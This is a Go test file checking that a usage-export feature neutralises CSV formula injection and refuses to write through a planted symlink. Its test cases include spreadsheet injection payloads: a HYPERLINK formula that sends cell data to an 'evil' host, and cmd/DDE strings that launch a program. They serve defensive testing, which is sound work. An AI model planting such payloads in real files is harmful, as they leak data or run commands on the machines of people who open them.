package usage

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"mcpdesk/backend/store"
)

func TestCSVCell(t *testing.T) {
	cases := []struct{ in, want string }{
		{`=HYPERLINK("https://evil/?"&A1,"x")`, `'=HYPERLINK("https://evil/?"&A1,"x")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-", "'-"},
		{"=", "'="},
		// Numbers, also negative ones, stay numbers.
		{"-0.002", "-0.002"},
		{"-5", "-5"},
		{"+5", "+5"},
		{"1e-7", "1e-7"},
		{"0.01325", "0.01325"},
		// Everything else is left alone.
		{"", ""},
		{"gpt-4o", "gpt-4o"},
		{"2025-05-01T10:00:00.000Z", "2025-05-01T10:00:00.000Z"},
		{"a=b", "a=b"},
		{" =1+1", " =1+1"},
	}
	for _, c := range cases {
		if got := csvCell(c.in); got != c.want {
			t.Errorf("csvCell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestCSVExportNeutralisesFormulas exports usage whose conversation title,
// provider name and model name are formulas: no cell of any export starts
// a formula, and the numbers are still numbers.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	f := newFixture(t)
	hostile := []string{`=HYPERLINK("https://evil/?"&A1)`, "@evil", "+cmd|' /C calc'!A0", "-1+1"}
	if _, err := f.st.CreateProvider(f.ctx, store.Provider{ID: "evil-e5", Name: hostile[1], Type: "openai", BaseURL: "https://evil.example/v1", Enabled: true}); err != nil {
		t.Fatal(err)
	}
	c, err := f.st.CreateConversation(f.ctx, hostile[0], store.ConversationSettings{Provider: "evil-e5", Model: hostile[2]})
	if err != nil {
		t.Fatal(err)
	}
	f.e.RecordUsage(f.ctx, store.UsageRecord{Time: may1.Add(5 * time.Hour), ConversationID: c.ID, Provider: "evil-e5",
		ProviderName: hostile[1], Preset: hostile[3], Model: hostile[2], PromptTokens: 10, CompletionTokens: 5})
	q := UsageQuery{From: "2025-05-01", To: "2025-05-03"}
	for _, by := range []ExportBy{ByDay, ByProvider, ByModel, ByConversation, ByCalls} {
		var b strings.Builder
		if err := f.e.WriteCSV(f.ctx, &b, q, by); err != nil {
			t.Fatalf("by %s: %v", by, err)
		}
		rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
		if err != nil {
			t.Fatalf("by %s: %v", by, err)
		}
		seen := 0
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber.MatchString(cell) {
					t.Errorf("by %s: cell %q would run as a formula", by, cell)
				}
				for _, h := range hostile {
					if cell == "'"+h {
						seen++
					}
				}
			}
		}
		if by != ByDay && seen == 0 {
			t.Errorf("by %s: none of the hostile names was exported:\n%s", by, b.String())
		}
	}
}

// TestSaveCSVPrivateAndNoFollow: the saved CSV replaces a planted link
// rather than writing through it, with mode 0600.
func TestSaveCSVPrivateAndNoFollow(t *testing.T) {
	f := newFixture(t)
	victim := filepath.Join(t.TempDir(), "victim")
	if err := os.WriteFile(victim, []byte("precious"), 0o644); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "usage.csv")
	if err := os.Symlink(victim, path); err != nil {
		t.Fatal(err)
	}
	if _, err := NewService(f.e, &fakeSaver{path: path}, WithContext(f.ctx)).SaveCSV(UsageQuery{From: "2025-05-01", To: "2025-05-03"}, ByDay); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(victim); string(b) != "precious" {
		t.Fatalf("written through the link: %q", b)
	}
	fi, err := os.Lstat(path)
	if err != nil || !fi.Mode().IsRegular() || (runtime.GOOS != "windows" && fi.Mode().Perm() != 0o600) {
		t.Fatalf("%s: %v, %v; want a regular file with mode 0600", path, fi.Mode(), err)
	}
}
